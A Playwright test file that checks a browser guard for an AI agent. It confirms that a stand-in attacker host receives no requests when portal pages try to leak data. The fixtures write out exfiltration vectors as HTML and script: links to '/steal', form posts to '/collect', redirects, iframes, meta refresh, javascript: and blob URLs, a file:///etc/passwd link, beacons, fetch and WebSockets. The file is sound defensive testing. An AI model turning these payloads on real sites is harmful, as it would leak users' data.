import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { contextOptionsFor } from '../../../../src/agent/guard/browser';
import type { GuardEvent } from '../../../../src/agent/guard/browser';
import { newTabsOf } from '../../../../src/agent/guard/watchdogs/popups';
import { ATTACKER, fullyGuardedPage, HELP, PORTAL, settle, useGuardedPortal } from './portal-server';

/**
 * Each attack vector against the network lock in real Chromium, counted at the server: the
 * attacker host (and the portal's host on an unlisted port) must receive no request at all.
 */

const lab = useGuardedPortal();
const server = lab.server;

const attacker = (path: string) => `http://${ATTACKER}:${server.port}${path}`;

/** Opens a portal page with `html`, lets it run, and answers the page. */
async function open(html: string): Promise<Page> {
  const path = server.page(`/p${Math.random().toString(36).slice(2)}`, html);
  await lab.guarded.page.goto(`${server.origin()}${path}`);
  return lab.guarded.page;
}

function expectNothingOffPortal(): void {
  expect(server.offPortal(), JSON.stringify(server.offPortal())).toEqual([]);
}

function eventTypes(): string[] {
  return lab.guarded.events.map((e) => e.type);
}

/**
 * Waits until the watchdogs report `count` events of `type` (proof the attempt was made and
 * stopped), then a little longer for anything that slipped through to land at the server.
 */
async function stopped(type: GuardEvent['type'], count = 1): Promise<void> {
  await expect.poll(() => eventTypes().filter((t) => t === type).length, { timeout: 20_000 }).toBeGreaterThanOrEqual(count);
  await settle(lab.guarded.page, 400);
}

describe('network lock: navigation vectors (attacker receives nothing)', () => {
  it('link click', async () => {
    const page = await open(`<a id="go" href="${attacker('/steal?d=Lakshmi')}">Continue</a>`);
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', url: attacker('/steal?d=Lakshmi') }));
    expect(page.url()).not.toContain(ATTACKER);
  });

  it('redirect chain: an allowed address that 302s (twice) to the attacker ends aborted', async () => {
    const hop2 = `${server.origin()}/redirect?to=${encodeURIComponent(attacker('/after-redirect?d=1'))}`;
    const hop1 = `${server.origin()}/redirect?to=${encodeURIComponent(hop2)}`;
    await expect(lab.guarded.page.goto(hop1)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
    expect(server.to(PORTAL).map((h) => h.path.split('?')[0])).toEqual(['/redirect', '/redirect']);
    const event = lab.guarded.events.find((e) => e.type === 'navigation_blocked');
    expect(event?.detail).toMatch(/Stopped a redirect from shops\.portal\.example:\d+ to attacker\.example:\d+/);
  });

  it('redirect behind a link click', async () => {
    const page = await open(`<a id="go" href="/redirect?to=${encodeURIComponent(attacker('/x'))}">Next</a>`);
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
  });

  it('iframe', async () => {
    await open(`<iframe src="${attacker('/frame')}"></iframe>`);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', url: attacker('/frame') }));
  });

  it('iframe of an allowed site that redirects to the attacker, and a redirecting link inside it', async () => {
    const inner = server.page('/help-frame', `<a id="go" href="/redirect?to=${encodeURIComponent(attacker('/from-frame'))}">More help</a>`);
    const page = await open(
      `<iframe id="a" src="http://${HELP}:${server.port}/redirect?to=${encodeURIComponent(attacker('/frame-redirect'))}"></iframe>` +
        `<iframe id="b" src="http://${HELP}:${server.port}${inner}"></iframe>`,
    );
    await stopped('navigation_blocked');
    await expect.poll(() => page.frames().some((f) => f.url().endsWith('/help-frame')), { timeout: 20_000 }).toBe(true);
    const helpFrame = page.frames().find((f) => f.url().endsWith('/help-frame'))!;
    await settle(page, 500);
    await helpFrame.click('#go').catch(() => undefined);
    await stopped('navigation_blocked', 2);
    expectNothingOffPortal();
    expect(server.to(HELP).length).toBeGreaterThanOrEqual(2);
  });

  it('window.open', async () => {
    const page = await open(`<button id="go" onclick="window.open('${attacker('/popup')}')">Open</button>`);
    await page.click('#go');
    await stopped('popup_closed');
    expectNothingOffPortal();
    await expect.poll(() => lab.guarded.context.pages(), { timeout: 20_000 }).toEqual([page]);
  });

  it('window.open to an allowed address that redirects to the attacker', async () => {
    // The whole guard, as a run has it: the network lock fetches a new tab's first page through the egress lock's proxy.
    await lab.guarded.context.close();
    lab.guarded = await fullyGuardedPage(lab.browser, server.profile());
    const to = `/redirect?to=${encodeURIComponent(attacker('/popup-redirect'))}`;
    const page = await open(`<button id="go" onclick="window.open('${to}')">Open</button>`);
    await page.click('#go');
    // A new tab on the portal's address may load (the run follows it); its first hop, before any page lock is on the tab, is checked here.
    await stopped('navigation_blocked');
    expect(lab.guarded.events.find((e) => e.type === 'navigation_blocked')?.detail).toMatch(/new tab's redirect/);
    await stopped('popup_closed');
    expectNothingOffPortal();
    expect(server.to(PORTAL).filter((h) => h.path.startsWith('/redirect'))).toHaveLength(1);
  });

  it('target=_blank, with and without noopener', async () => {
    const page = await open(
      `<a id="a" target="_blank" href="${attacker('/blank')}">Guide</a>` +
        `<a id="b" target="_blank" rel="noopener noreferrer" href="${attacker('/blank-noopener')}">Guide</a>`,
    );
    await page.click('#a');
    await page.click('#b');
    await stopped('popup_closed', 2);
    expectNothingOffPortal();
    await expect.poll(() => lab.guarded.context.pages().length, { timeout: 20_000 }).toBe(1);
  });

  it('form post to another host', async () => {
    const page = await open(
      `<form method="post" action="${attacker('/collect')}"><input name="business" value="Lakshmi Stores"><button id="go">Save and continue</button></form>`,
    );
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
  });

  it('form whose target is a new window: to another host refused, to the portal posted once in a tab kept for the run', async () => {
    // The whole guard, as a run has it: the network lock fetches a new tab's first page through the egress lock's proxy.
    await lab.guarded.context.close();
    lab.guarded = await fullyGuardedPage(lab.browser, server.profile());
    const page = await open(
      `<form method="post" target="_blank" action="${attacker('/collect')}"><input name="business" value="Lakshmi Stores"><button id="out">Send elsewhere</button></form>` +
        `<form method="post" target="_blank" action="/save"><button id="go">Save</button></form>`,
    );
    await page.click('#out');
    await stopped('navigation_blocked');
    await stopped('popup_closed');
    expectNothingOffPortal();
    await page.click('#go');
    const tabs = newTabsOf(lab.guarded.context)!;
    let kept: Page[] = [];
    await expect.poll(async () => (kept = [...kept, ...(await tabs.take())]).length, { timeout: 20_000 }).toBe(1);
    expect(new URL(kept[0]!.url()).pathname).toBe('/save');
    expect(server.to(PORTAL).filter((h) => h.method === 'POST').map((h) => h.path)).toEqual(['/save']);
    await kept[0]!.close();
  });

  it('meta refresh', async () => {
    await open(`<meta http-equiv="refresh" content="0;url=${attacker('/refresh')}"><p>Moving…</p>`);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
  });

  it('script location assignment', async () => {
    await open(`<script>setTimeout(() => { location.href = ${JSON.stringify(attacker('/script'))}; }, 20);</script>`);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
  });

  it('javascript: link that navigates', async () => {
    const page = await open(`<a id="go" href="javascript:location.assign('${attacker('/js-link')}')">Next</a>`);
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
  });

  it('userinfo URL (portal host as a user name)', async () => {
    const page = await open(`<a id="go" href="http://${PORTAL}:${server.port}@${ATTACKER}:${server.port}/userinfo">Portal</a>`);
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
  });

  it('suffix host (shops.portal.example.attacker.example)', async () => {
    const page = await open(`<a id="go" href="http://${PORTAL}.${ATTACKER}:${server.port}/suffix">Portal</a>`);
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expectNothingOffPortal();
    expect(server.to(`${PORTAL}.${ATTACKER}`)).toEqual([]);
  });

  it('the portal host on another port', async () => {
    const page = await open(`<a id="go" href="http://${PORTAL}:${server.otherPort}/other-port">Portal</a>`);
    await page.click('#go').catch(() => undefined);
    await stopped('navigation_blocked');
    expect(server.onOtherPort()).toEqual([]);
    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'navigation_blocked', detail: expect.stringContaining(`not on port ${server.otherPort}`) }));
  });

  it('data:, file: and blob: navigations go nowhere off the portal (Chromium refuses the first two itself)', async () => {
    const page = await open(
      `<a id="data" href="data:text/html,<script>location='${attacker('/data')}'</script>">d</a>` +
        `<a id="file" href="file:///etc/passwd">f</a>` +
        `<button id="blob" onclick="location = URL.createObjectURL(new Blob(['<script>location=&quot;${attacker('/blob')}&quot;</script>'], { type: 'text/html' }))">b</button>`,
    );
    await page.click('#data').catch(() => undefined);
    await page.click('#file').catch(() => undefined);
    await settle(page, 300);
    expect(page.url().startsWith(server.origin())).toBe(true);
    await page.click('#blob').catch(() => undefined);
    await settle(page, 1500);
    expectNothingOffPortal();
  });
});

describe('network lock: subresources and sockets (data leaving another way)', () => {
  it('images, scripts, styles, fetch, beacons and redirected images are refused off the portal', async () => {
    await open(
      `<img src="${attacker('/pixel.gif?d=1')}">` +
        `<script src="${attacker('/tracker.js')}"></script>` +
        `<link rel="stylesheet" href="${attacker('/style.css')}">` +
        `<img src="/redirect?to=${encodeURIComponent(attacker('/redirected.gif'))}">` +
        `<script>fetch(${JSON.stringify(attacker('/api?d=2'))}, { mode: 'no-cors' }).catch(() => {}); navigator.sendBeacon(${JSON.stringify(attacker('/beacon'))}, 'Lakshmi');</script>` +
        `<img src="/logo.png">`,
    );
    await stopped('request_blocked', 6);
    expectNothingOffPortal();
    expect(server.to(PORTAL).some((h) => h.path === '/logo.png')).toBe(true);
    const blocked = lab.guarded.events.filter((e) => e.type === 'request_blocked');
    expect(blocked.length).toBeGreaterThanOrEqual(5);
    expect(blocked.some((e) => /redirect/.test(e.detail))).toBe(true);
  });

  it('WebSockets connect only to the portal', async () => {
    const page = await open(
      `<script>try { new WebSocket(${JSON.stringify(`ws://${ATTACKER}:${server.port}/socket`)}); } catch (e) {}` +
        ` try { new WebSocket(${JSON.stringify(`ws://${PORTAL}:${server.port}/socket`)}); } catch (e) {}</script>`,
    );
    await stopped('request_blocked');
    await expect.poll(() => server.to(PORTAL).filter((h) => h.upgrade).length, { timeout: 20_000 }).toBe(1);
    await settle(page, 400);
    expectNothingOffPortal();
    expect(lab.guarded.events).toContainEqual(expect.objectContaining({ type: 'request_blocked', detail: expect.stringContaining('WebSocket') }));
  });
});

describe('the harness counts what lands', () => {
  it('without the watchdogs, the same vectors do reach the attacker', async () => {
    const context = await lab.browser.newContext(contextOptionsFor(server.profile()));
    const page = await context.newPage();
    try {
      const path = server.page('/unguarded', `<img src="${attacker('/pixel.gif')}"><iframe src="${attacker('/frame')}"></iframe>`);
      await page.goto(`${server.origin()}${path}`);
      await page.goto(`${server.origin()}/redirect?to=${encodeURIComponent(attacker('/after-redirect'))}`);
      await expect.poll(() => server.to(ATTACKER).map((h) => h.path).filter((p) => p !== '/favicon.ico').sort(), { timeout: 20_000 }).toEqual(['/after-redirect', '/frame', '/pixel.gif']);
    } finally {
      await context.close();
    }
  });
});
